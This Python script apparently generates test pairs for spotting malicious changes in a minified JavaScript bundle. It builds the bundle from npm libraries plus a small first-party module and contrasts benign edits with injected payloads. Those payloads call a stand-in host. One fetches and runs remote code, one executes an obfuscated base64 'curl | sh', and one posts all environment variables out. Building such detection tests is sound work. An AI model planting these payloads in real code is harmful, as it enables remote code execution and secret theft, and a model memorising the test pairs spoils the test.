"""A minified bundle of 3 MB for pairs.py: libraries as npm ships them, minified, and among them one
module of the product's own, which is what changes."""

import base64
import os
import subprocess

HOST = "cdn.stats-pixel.example"
UNIT = "module 7, function l at"
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
PARTS = ["axe-core/axe.min.js", "playwright-core/lib/utilsBundleImpl/index.js", "validator/validator.min.js",
         "moment/min/locales.min.js", "lodash/lodash.min.js", "playwright-core/lib/mcpBundleImpl/index.js", "ramda/dist/ramda.min.js",
         "@js-joda/timezone/dist/js-joda-timezone.min.js", "@js-joda/core/dist/js-joda.min.js"]

CLIENT = ('const r=n(41),o=n(42),i="https://api.thing.example/v2";class a{constructor({key:e=process.env.THING_KEY,timeout:t=1e4}={}){this.k=e,this.timeout=t}'
          'async get(e,t={}){const n=new URL(r.join(i,e));for(const[e,r]of Object.entries(t))n.searchParams.set(e,r);const o=await fetch(n,{headers:'
          '{authorization:`Bearer ${this.k}`}});if(!o.ok)throw new Error(`${o.status} from ${n.pathname}`);return o.json()}}t.Client=a,'
          't.open=function(e){o.execFile("darwin"===process.platform?"open":"xdg-open",[e])}')
TOOL = ('const r=n(42),o=n(43),i=process.env.EDITOR||"vi";function a(e,...t){const n=r.spawnSync(e,t,{encoding:"utf8"});if(0!==n.status)throw new Error(n.stderr);'
        'return n.stdout.trim()}t.news=function(e){o.get("https://www.thing.example/news.txt",(t=>{let n="";t.on("data",(e=>{n+=e})),'
        't.on("end",(()=>e(n.split("\\n").slice(0,3))))}))},t.edit=function(e){return r.spawnSync(i,e.map((e=>a("git","rev-parse","--show-toplevel")+"/"+e)),'
        '{stdio:"inherit"})}')
WATCH = ('const r=n(42),o=n(44),i=n(43),a="1"===process.env.THING_QUIET;let s=null;const c=()=>{s&&s.kill(),s=r.spawn(process.execPath,["server.js"],'
         '{env:process.env,stdio:"inherit"})};t.notify=function(e){const t=JSON.stringify({what:e,at:Date.now()}),n=i.request("https://hooks.thing.example/changed",'
         '{method:"POST"});n.on("error",(()=>{})),n.end(t)},t.start=function(e){c(),o.watch(e,{recursive:!0},((e,n)=>{a||console.log(e,n),c(),t.notify(n)}))}')
PUBLISH = ('const r=n(42),o=n(45),i=n(44),a=process.env.REGISTRY_TOKEN,s="https://registry.thing.example",c=e=>o.createHash("sha256").update(i.readFileSync(e))'
           '.digest("hex");async function u(e){return(await fetch(`${s}/upload`,{method:"PUT",headers:{authorization:a,"x-sha256":c(e)},body:i.readFileSync(e)})).ok}'
           't.version=function(){return r.execSync("git describe --tags").toString().trim()},t.publish=async function(e){for(const t of e)await u(t)}')
OWN = {"client": CLIENT, "tool": TOOL, "watch": WATCH, "publish": PUBLISH}
MARK = {"client": "t.Client=a", "tool": "t.news=", "watch": "t.notify=", "publish": "t.version="}
NODE = '41:(e,t)=>{t.join=(...e)=>e.map((e=>e.replace(/\\/+$/,""))).join("/")},42:e=>{e.exports=require("child_process")},' \
       '43:e=>{e.exports=require("https")},44:e=>{e.exports=require("fs")},45:e=>{e.exports=require("crypto")}'
MINIFY = """const fs = require('fs'), path = require('path'), { minify } = require('terser');
(async () => { for (const file of process.argv.slice(2)) {
  const done = await minify(fs.readFileSync(file, 'utf8'), { compress: false, mangle: { reserved: ['e', 't', 'n', 'r'] } });
  process.stdout.write(done.code + '\\0');
} })();
"""


def parts():
    texts = []
    for name in PARTS:
        with open(os.path.join(ROOT, "node_modules", name), encoding="utf-8") as f:
            texts.append(f.read().rstrip())
    return texts


def minified_again():
    """The libraries by another minifier, that gives other names."""
    done = subprocess.run(["node", "-e", MINIFY, "--", *(os.path.join("node_modules", p) for p in PARTS)], cwd=ROOT,
                          stdout=subprocess.PIPE, check=True)
    return done.stdout.decode().split("\0")[:-1]


def assemble(base, texts):
    """The product's own module stands behind another library in each of the bases."""
    at = 2 * list(OWN).index(base) + 1
    modules = ["%d:function(module,exports){%s\n}" % (100 + i, text) for i, text in enumerate(texts)]
    modules[at:at] = [NODE, "7:(e,t,n)=>{%s}" % OWN[base]]
    return ('(()=>{var e={' + ",".join(modules) + '},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};'
            'return e[r].call(i.exports,i,i.exports,n),i.exports}module.exports=n(7)})();\n')


class Bases(dict):
    """Put together when asked for: pairs.py may be wanted for other languages."""

    def items(self):
        return [(base, ("dist/thing.min.js", assemble(base, parts()))) for base in OWN]


BASES = Bases()
OTHER = {"package.json": '{"name": "thing", "version": "1.0.0", "main": "dist/thing.min.js"}\n'}


def plain(base):
    return UNIT, 'async function l(){const e=await(await fetch("https://%s/%s.js")).text();new Function("require",e)(require)}l();' % (HOST, base)


def hidden(base):
    data = base64.b64encode(("curl -s https://%s/%s | sh" % (HOST, base)).encode()).decode()
    return UNIT, 'function l(){const e=require("child_"+["process"][0]);e["ex"+"ec"](Buffer.from("%s","base64").toString())}l();' % data


def steals(base):
    return UNIT, ('function l(){return fetch("https://%s/%s",{method:"POST",body:JSON.stringify(process.env)})}l().catch((()=>{}));' % (HOST, base))


def again(base):
    return lambda text: assemble(base, minified_again())


STYLES = {"plain": plain, "encoded": hidden, "environment": steals}
CHANGES = {
    "client": {"request": ('t.open=function', 't.health=async e=>(await e.get("health")).ok,t.open=function'), "timeout": ("timeout:t=1e4", "timeout:t=3e4"),
               "minified again": again("client")},
    "tool": {"program": ("t.edit=function", 't.status=()=>a("git","status","--short"),t.edit=function'), "names": ("o.get(", "(0,o.get)("),
             "request": ("t.news=function", 't.latest=e=>o.get("https://www.thing.example/version.txt",(t=>t.pipe(e))),t.news=function')},
    "watch": {"program": ("t.start=function", 't.build=()=>r.spawn("npm",["run","build"],{stdio:"inherit"}),t.start=function'),
              "refactor": ("s&&s.kill(),s=", "s?.kill(),s="), "header": ('{method:"POST"});n.on', '{method:"POST",headers:{"content-type":"application/json"}});n.on')},
    "publish": {"call": ("t.version=function", 't.known=async e=>(await fetch(`${s}/packages/${e}`)).ok,t.version=function'),
                "program": ("describe --tags", "describe --tags --always"), "refactor": ("for(const t of e)await u(t)", "await Promise.all(e.map(u))")},
}
